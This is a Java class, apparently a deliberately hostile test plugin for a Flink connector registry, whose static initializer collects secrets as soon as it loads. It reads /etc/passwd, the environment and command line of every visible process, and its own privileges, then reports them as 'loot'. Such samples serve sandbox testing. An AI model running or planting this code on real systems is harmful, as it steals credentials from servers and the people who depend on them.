package dev.flinkregistry.samples.broken.hostile.readsecrets;

import dev.flinkregistry.samples.broken.hostile.HostileSourceFactory;
import dev.flinkregistry.samples.broken.hostile.Loot;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;

/**
 * Reads what a server keeps secret and puts it in its report: the environment of its parent and of
 * every process it can see in /proc (a database password is an environment variable), their
 * command lines, and /etc/passwd. It also says who it is: its user and capabilities, its user
 * namespace's mapping, and the network interfaces it has.
 */
public class ReadSecretsFactory extends HostileSourceFactory {

    private static final Loot LOOT = new Loot();

    static {
        ProcessHandle.current().parent().ifPresent(parent ->
                LOOT.attempt("read the parent's environment", () -> read(Path.of("/proc", String.valueOf(
                        parent.pid()), "environ"))));
        LOOT.attempt("read /proc/1/environ", () -> read(Path.of("/proc/1/environ")));
        LOOT.attempt("read /etc/passwd", () -> read(Path.of("/etc/passwd")));
        LOOT.attempt("read /proc/self/status", () -> String.join(" | ", Files.readAllLines(
                Path.of("/proc/self/status")).stream().filter(line -> line.startsWith("Uid:")
                || line.startsWith("Cap") || line.startsWith("NoNewPrivs:")).toList()));
        LOOT.attempt("read /proc/self/uid_map", () -> read(Path.of("/proc/self/uid_map")).trim());
        LOOT.attempt("read /proc/net/dev", () -> String.join(" | ", Files.readAllLines(Path.of("/proc/net/dev"))
                .stream().skip(2).map(line -> line.trim().split(":")[0]).toList()));
        LOOT.attempt("read every process's environment and command line", () -> {
            StringBuilder all = new StringBuilder();
            try (Stream<Path> processes = Files.list(Path.of("/proc"))) {
                processes.filter(p -> p.getFileName().toString().chars().allMatch(Character::isDigit))
                        .forEach(process -> {
                            for (String file : new String[] {"environ", "cmdline"}) {
                                try {
                                    all.append(process).append('/').append(file).append(": ")
                                            .append(read(process.resolve(file))).append('\n');
                                } catch (Exception denied) {
                                    all.append(process).append('/').append(file).append(": denied\n");
                                }
                            }
                        });
            }
            return all.toString();
        });
    }

    private static String read(Path file) throws Exception {
        return new String(Files.readAllBytes(file), StandardCharsets.UTF_8).replace('\0', ' ');
    }

    @Override
    public String factoryIdentifier() {
        return "hostile-read-secrets";
    }

    @Override
    protected String loot() {
        return LOOT.toString();
    }
}
